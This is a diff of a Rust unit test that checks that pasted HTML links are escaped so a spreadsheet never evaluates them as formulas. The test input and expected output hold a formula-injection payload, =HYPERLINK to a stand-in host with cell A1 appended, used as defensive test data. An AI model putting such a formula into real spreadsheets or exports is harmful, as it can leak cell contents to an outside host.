@@ -256,7 +256,7 @@ mod tests {
     #[test]
     fn nothing_that_is_pasted_into_a_spreadsheet_is_a_formula() {
         with_links(
-            "<a href='https://a.example/'>=HYPERLINK(\"https://b.example/\"&amp;A1)</a>",
+            "<article><p>Read <a href='https://a.example/'>=HYPERLINK(\"https://b.example/\"&amp;A1)</a> first.</article>",
             |links| {
                 let formula = "'=HYPERLINK(\"https://b.example/\"&A1)";
                 assert_eq!(
